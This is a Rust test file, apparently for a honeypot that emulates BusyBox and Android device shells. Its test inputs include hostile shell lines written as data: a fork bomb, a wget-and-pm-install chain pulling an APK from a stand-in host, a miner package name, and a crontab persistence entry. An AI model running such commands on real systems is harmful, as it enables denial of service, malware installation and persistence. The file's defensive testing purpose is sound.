//! The bounds of what a source can keep on a device.

use std::net::IpAddr;
use std::sync::atomic::Ordering::Relaxed;

use super::file_system::Overlay;
use super::*;
use crate::clock::Timestamp;
use crate::flow::Transport;
use crate::handlers::{Context, Output, Persona, Session};

#[path = "../../../tests/dialogues/shell.rs"]
mod dialogue;

fn device() -> Arc<Device> {
    Device::new(Flavor::BusyBox, &Persona::example(), &[])
}

fn source(last: u8) -> IpAddr {
    IpAddr::from([192, 0, 2, last])
}

#[test]
fn a_source_that_fills_its_disk_is_told_so_and_no_other() {
    let (device, now, piece) = (device(), Timestamp::default(), vec![b'x'; 64 << 10]);
    device.files(source(1), now, |files| {
        let store = |files: &mut FileSystem<'_>, n: usize| files.store(format!("/tmp/{n}").as_bytes(), &piece, 0o644);
        let stored = (0..100).take_while(|&n| store(files, n).is_ok()).count();
        assert_eq!(stored, 31, "two mebibytes, entries included");
        assert_eq!(store(files, 100), Err("No space left on device"));
        files.remove(b"/tmp/7").unwrap();
        assert_eq!(store(files, 100), Ok(()));
    });
    device.files(source(2), now, |files| assert_eq!(files.store(b"/tmp/1", &piece, 0o644), Ok(())));
}

#[test]
fn a_source_can_keep_so_many_files_and_no_more() {
    device().files(source(1), Timestamp::default(), |files| {
        let stored =
            (0..1_000).take_while(|n| files.store(format!("/tmp/{n}").as_bytes(), b"x", 0o644).is_ok()).count();
        assert_eq!(stored, 512);
        files.remove(b"/tmp/0").unwrap();
        assert_eq!(files.store(b"/tmp/y", b"x", 0o644), Ok(()));
    });
}

#[test]
fn a_forgotten_source_gives_all_its_room_back() {
    let (device, mut overlay) = (device(), Overlay::default());
    let mut files = FileSystem::new(&device, &mut overlay, Timestamp::default(), true);
    files.store(b"/tmp/a", &[b'x'; 10_000], 0o644).unwrap();
    files.append(b"/tmp/a", &[b'x'; 10_000]).unwrap();
    files.make_directory(b"/tmp/d").unwrap();
    files.rename(b"/tmp/a", b"/tmp/d/b").unwrap();
    files.copy(b"/tmp/d/b", b"/tmp/c").unwrap();
    files.remove(b"/etc/passwd").unwrap();
    assert!(device.room().load(Relaxed) > 40_000);
    drop(overlay);
    assert_eq!(device.room().load(Relaxed), 0);
}

/// What these lines print on a fresh login, and the status of the last.
fn ask<L: AsRef<str>>(lines: &[L]) -> (Vec<u8>, u8) {
    let session = Session::example(Transport::Tcp, 23);
    let now = Timestamp::from_micros(1_700_000_000_000_000);
    let mut shell = Shell::new(device(), 1);
    let (mut out, mut said, mut status) = (Output::default(), Vec::new(), 0);
    for line in lines {
        if shell.has_exited() {
            break;
        }
        for act in shell.line(&mut Context::new(&session, now, &mut out), line.as_ref().as_bytes()) {
            if let Act::Print(bytes) | Act::Complain(bytes) = act {
                said.extend(bytes);
            }
        }
        status = shell.status();
    }
    (said, status)
}

#[test]
fn every_line_gives_what_busybox_gives() {
    let mut different = String::new();
    for case in dialogue::cases() {
        let (said, status) = ask(&case.lines);
        if said != case.said || status != case.status {
            let (given, wanted) = (said.escape_ascii(), case.said.escape_ascii());
            let line = case.lines.join("\n> ");
            different += &format!("$ {line}\n  gives {status} {given}\n  not   {} {wanted}\n", case.status);
        }
    }
    assert!(different.is_empty(), "{different}");
}

#[test]
fn what_goes_on_for_ever_ends_for_us() {
    for line in [
        ":(){ :|:& };:",
        "f() { f; }; f",
        "yes",
        "awk 'BEGIN { while (1) x = x \"a\" }'",
        "while :; do awk 'BEGIN { for (;;) n++ }'; done",
        "while :; do yes | sed 's/y/yyyyyyyy/g' | grep -c 'y*y*y*y*z'; done",
        "find / -exec find / -exec echo {} \\; \\;",
        "yes | xargs -n1 sh -c 'yes | xargs -n1 echo'",
        "x=aaaaaaaaaaaaaaaa; while :; do x=${x//a/aa}; done",
        "echo $(($(yes 1+ | head -n 4000 | tr -d '\\n')1))",
        "eval \"$(yes 'f() { echo a; };' | head -n 5000)\"",
    ] {
        let start = std::time::Instant::now();
        let (said, _) = ask(&[line]);
        assert!(said.len() < 1 << 20, "{line}");
        // 22 runs without optimisation.
        assert!(start.elapsed() < Duration::from_secs(20), "{line}: {:?}", start.elapsed());
    }
}

#[test]
fn what_is_nested_deeply_is_refused() {
    let groups = format!("f() {{ {} f; {} }}; f", "{ ".repeat(20), "}; ".repeat(20).trim_end());
    let function = format!("f() {{ {} $(f) {} }}; f", "if true; then ".repeat(20), "; fi".repeat(20));
    for line in [
        "echo ".to_owned() + &"${a:-".repeat(1_500) + &"}".repeat(1_500),
        "echo ".to_owned() + &"$((".repeat(1_300) + "1" + &"))".repeat(1_300),
        "echo ".to_owned() + &"$(echo ".repeat(1_000) + &")".repeat(1_000),
        "a() ".repeat(1_600),
        format!("awk 'BEGIN {{ print {} }}'", "1 ".repeat(3_900)),
        format!("awk 'BEGIN {{ print {} }}'", "1+".repeat(3_900)),
        format!("awk 'BEGIN {{ print {}1 }}'", "x=".repeat(3_900)),
        format!("awk 'BEGIN {{ print {}1 }}'", "$".repeat(7_900)),
        format!("awk 'BEGIN {{ {} }}'", "if (1) ".repeat(1_000)),
        format!("awk 'BEGIN {{ x = {}1 }}'", "1+".repeat(290)),
        format!("[ {} x ]", "! ".repeat(3_900)),
        format!("expr {} 1", "( ".repeat(3_000)),
        format!("sed '{}'", "{".repeat(7_000)),
        format!("grep '{}' /etc/passwd", "\\(".repeat(3_000)),
        groups,
        function,
    ] {
        let (said, _) = ask(&[line]);
        assert!(said.len() < 1 << 16);
    }
}

/// What one line prints on a fresh login to this flavor of device, so many seconds later.
fn said(flavor: Flavor, line: &str, after_secs: u64) -> String {
    let session = Session::example(Transport::Tcp, 23);
    let now = Timestamp::from_micros(1_700_000_000_000_000 + after_secs * 1_000_000);
    let mut shell = Shell::new(Device::new(flavor, &Persona::example(), &[]), 1);
    let mut out = Output::default();
    let acts = shell.line(&mut Context::new(&session, now, &mut out), line.as_bytes());
    text_of(acts)
}

/// All that is printed, errors as well.
fn text_of(acts: Acts) -> String {
    let printed = acts
        .into_iter()
        .filter_map(|act| if let Act::Print(bytes) | Act::Complain(bytes) = act { Some(bytes) } else { None });
    String::from_utf8(printed.flatten().collect()).unwrap()
}

#[test]
fn what_runs_and_what_is_listed_can_be_found_and_started() {
    let device = Flavor::BusyBox;
    for program in ["udhcpc", "crond", "httpd", "getty", "telnetd", "syslogd", "klogd", "init"] {
        assert!(said(device, &format!("which {program}"), 0).contains(program), "{program}");
    }
    let lost =
        "for d in /bin /sbin /usr/bin /usr/sbin; do for n in $(ls $d); do which $n >/dev/null || echo $n; done; done";
    assert_eq!(said(device, lost, 0), "");
}

#[test]
fn figures_of_the_device_agree_with_one_another() {
    for device in [Flavor::BusyBox, Flavor::Android] {
        let ask = |line: &str| said(device, line, 40).trim().to_owned();
        let card = ask("ifconfig | head -n 1 | awk '{ print $1 }'");
        assert_eq!(ask("route -n | tail -n 1 | awk '{ print $NF }'"), card);
        let counted = format!("grep {card} /proc/net/dev | awk '{{ print $2, $3 }}'");
        let shown = ask("ifconfig | grep 'RX ' | head -n 2 | sed 's/.*RX [a-z]*:\\([0-9]*\\) .*/\\1/'");
        assert_eq!(ask(&counted), shown.lines().rev().collect::<Vec<_>>().join(" "));
        assert_eq!(ask("cat /proc/sys/kernel/version"), ask("uname -v"));
        assert_eq!(
            ask("awk '/MemFree/ { print $2 }' /proc/meminfo"),
            ask("free | awk '/Mem/ { print $4 }'"),
            "memory that is free"
        );
    }
    let root = said(Flavor::BusyBox, "df / | awk '$NF == \"/\" { print $2 }'", 0);
    assert!(said(Flavor::BusyBox, "tail -n 1 /proc/partitions", 0).contains(root.trim()), "{root}");
}

#[test]
fn programs_and_the_kernel_tell_one_story_of_the_network() {
    for device in [Flavor::BusyBox, Flavor::Android] {
        let ask = |line: &str| said(device, line, 0).trim().to_owned();
        let card = ask("ip route | awk '/default/ { print $5 }'");
        let address = ask("ip addr | grep -v 127 | grep 'inet ' | tr '/' ' ' | awk '{ print $2 }'");
        assert_eq!(ask("ifconfig | grep Bcast | sed 's/.*addr:\\([0-9.]*\\).*/\\1/'"), address);
        assert_eq!(ask("netstat -n | grep ESTAB | awk '{ print $4 }' | cut -d: -f1"), address);
        let mac = ask(&format!("cat /sys/class/net/{card}/address"));
        assert_eq!(ask("ifconfig | head -n 1 | awk '{ print $NF }' | tr A-F a-f"), mac);
        assert_eq!(ask("ip link | tail -n 1 | awk '{ print $2 }'"), mac);
        let gateway = ask("route -n | grep UG | awk '{ print $2 }'");
        assert_eq!(ask("ip route | awk '/default/ { print $3 }'"), gateway);
        assert_eq!(
            ask("tail -n 1 /proc/net/arp | awk '{ print $1, $4, $6 }'"),
            ask("arp -a | tr -d '()' | awk '{ print $2, $4, $7 }'")
        );
        assert_eq!(ask("tail -n +2 /proc/net/route | wc -l"), ask("route | tail -n +3 | wc -l"));
        assert_eq!(ask("tail -n +2 /proc/net/tcp | wc -l"), ask("netstat -ant | grep -c ^tcp"));
    }
}

#[test]
fn processes_are_the_same_wherever_they_are_looked_at() {
    for device in [Flavor::BusyBox, Flavor::Android] {
        let ask = |line: &str| said(device, line, 0).trim().to_owned();
        assert_eq!(ask("ps | grep -cw $$"), "1");
        assert_eq!(ask("[ -d /proc/$$ ] && grep -c ^Pid:.$$ /proc/$$/status"), "1");
        assert_eq!(
            ask("[ $PPID = $(awk '/PPid/ { print $2 }' /proc/$$/status) ] && [ -d /proc/$PPID ] && echo parent"),
            "parent"
        );
        assert_eq!(
            ask("[ $(readlink /proc/self) = $(awk '/^Pid/ { print $2 }' /proc/self/status) ] && echo own"),
            "own"
        );
        assert_eq!(
            ask("set -- $(ps | tail -n 1); [ ${1#[a-z]} -gt $$ ] 2>/dev/null || [ $2 -gt $$ ] && echo later"),
            "later"
        );
    }
}

#[test]
fn a_program_finds_itself_in_proc() {
    let lines = [
        "cat /proc/self/cmdline | tr '\\0' ' '; head -n 1 /proc/self/status; cat /proc/self/comm; ls /proc/self/fd | wc -l; readlink /proc/$$/fd/0",
    ];
    let (said, _) = ask(&lines);
    assert_eq!(String::from_utf8(said).unwrap(), "cat /proc/self/cmdline Name:\thead\ncat\n4\n/dev/pts/0\n");
}

#[test]
fn who_tells_when_the_visitor_came_and_from_where() {
    let session = Session::example(Transport::Tcp, 23);
    let mut shell = Shell::new(device(), 1);
    let mut out = Output::default();
    let mut ask = |secs: u64| {
        let now = Timestamp::from_micros(1_700_000_000_000_000 + secs * 1_000_000);
        let acts = shell.line(&mut Context::new(&session, now, &mut out), b"who");
        acts.into_iter()
            .map(|act| if let Act::Print(text) = act { text } else { Vec::new() })
            .collect::<Vec<_>>()
            .concat()
    };
    let first = String::from_utf8(ask(0)).unwrap();
    assert_eq!(first.as_bytes(), ask(90), "a login stays at its time");
    assert!(first.trim_end().ends_with(&session.client.ip().to_string()), "{first}");
}

#[test]
fn processes_are_numbered_in_the_order_they_began() {
    let device = Flavor::BusyBox;
    assert_eq!(said(device, "set -- $(cat /proc/loadavg); [ $5 -gt $$ ] && echo later", 0), "later\n");
    assert_eq!(said(device, "set -- $(grep ^Pid: /proc/self/status); [ $2 -gt $$ ] && echo later", 0), "later\n");
    let newest = |secs| said(device, "awk '{ print $5 }' /proc/loadavg", secs).trim().parse::<u32>().unwrap();
    assert!(newest(60) > newest(0) && newest(0) == newest(0));
}

#[test]
fn what_runs_in_the_background_is_listed_until_it_ends_or_is_killed() {
    let device = Flavor::BusyBox;
    assert_eq!(said(device, "sleep 100 & jobs", 0), "[1]+  Running                    sleep 100\n");
    assert_eq!(
        said(device, "sleep 100 & ps | grep -cw $! && [ -d /proc/$! ] && echo there; kill $!; ps | grep -cw $!", 0),
        "1\nthere\n0\n"
    );
    let session = Session::example(Transport::Tcp, 23);
    let mut shell = Shell::new(self::device(), 1);
    let mut out = Output::default();
    let acts = shell.line(&mut Context::new(&session, Timestamp::default(), &mut out), b"sleep 3 & sleep 7 & wait");
    assert_eq!(Vec::from(acts), [Act::Wait(Duration::from_secs(7))], "as long as the longest takes");
}

#[test]
fn a_shell_that_kills_itself_is_gone() {
    let session = Session::example(Transport::Tcp, 23);
    for (line, is_gone) in [("kill -9 $$", true), ("kill $$", false), ("trap : HUP; kill -1 $$", false)] {
        let mut shell = Shell::new(device(), 1);
        let mut out = Output::default();
        shell.line(&mut Context::new(&session, Timestamp::default(), &mut out), line.as_bytes());
        assert_eq!(shell.has_exited(), is_gone, "{line}");
    }
}

#[test]
fn what_a_visitor_installs_on_a_phone_is_there_and_nothing_else() {
    let device = Device::new(Flavor::Android, &Persona::example(), &[]);
    let session = Session::example(Transport::Tcp, 5555);
    let now = Timestamp::from_micros(1_700_000_000_000_000);
    let ask = |line: &str| {
        let mut shell = Shell::for_commands(Arc::clone(&device), 1);
        let mut out = Output::default();
        let acts = shell.line(&mut Context::new(&session, now, &mut out), line.as_bytes());
        text_of(acts)
    };
    let start = "am start -n com.ufo.miner/com.example.test.MainActivity";
    let started = "Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }\n";
    let missing = "Error type 3\nError: Activity class {com.ufo.miner/com.example.test.MainActivity} does not exist.\n";
    assert_eq!(ask("pm path com.ufo.miner || echo none"), "none\n");
    assert_eq!(ask(start), format!("{started}{missing}"));
    device.install(session.client.ip(), now, &apk::example("com.ufo.miner"));
    assert_eq!(ask("pm path com.ufo.miner"), "package:/data/app/com.ufo.miner-1/base.apk\n");
    assert_eq!(ask("pm list packages -3"), "package:com.ufo.miner\n");
    assert_eq!(ask(start), started);
    assert_eq!(
        ask("pm uninstall com.ufo.miner; pm uninstall com.ufo.miner"),
        "Success\nFailure [DELETE_FAILED_INTERNAL_ERROR]\n"
    );
    assert_eq!(ask("settings put global adb_enabled 0; settings get global adb_enabled"), "0\n");
    assert_eq!(ask("settings get global adb_enabled"), "0\n", "in the next connection as well");
    assert_eq!(
        ask("cd /data/local/tmp && wget -q http://192.0.2.9/a.apk && pm install a.apk && pm path com.a.b"),
        "Success\npackage:/data/app/com.a.b-1/base.apk\n"
    );
}

#[test]
fn a_table_of_crond_stays_where_it_was_put() {
    let device = Flavor::BusyBox;
    let line = "(crontab -l 2>/dev/null; echo '* * * * * /tmp/x') | crontab -; crontab -l; cat /var/spool/cron/crontabs/root; crontab -r; crontab -l";
    let table = "* * * * * /tmp/x\n";
    assert_eq!(said(device, line, 0), format!("{table}{table}crontab: can't open 'root': No such file or directory\n"));
}

#[test]
fn names_of_variables_are_bounded_as_their_values_are() {
    let session = Session::example(Transport::Tcp, 23);
    let mut shell = Shell::new(device(), 1);
    let mut out = Output::default();
    for from in (0..6_000).step_by(600) {
        let line =
            format!("set -a; for i in $(seq {from} {}); do eval \"x$i=1; readonly x$i; unset x$i\"; done", from + 600);
        shell.line(&mut Context::new(&session, Timestamp::default(), &mut out), line.as_bytes());
    }
    let Surroundings { variables, exported, fixed, .. } = &shell.state.surroundings;
    assert!(variables.len() < 300 && exported.len() <= variables.len() && fixed.len() <= variables.len());
}

#[test]
fn a_device_that_is_rebooted_ends_the_session() {
    let session = Session::example(Transport::Tcp, 23);
    let mut shell = Shell::new(device(), 1);
    let mut out = Output::default();
    let acts = shell.line(&mut Context::new(&session, Timestamp::default(), &mut out), b"reboot; echo still here");
    assert!(matches!(Vec::from(acts).as_slice(), [Act::Wait(_)]));
    assert!(shell.has_exited());
}
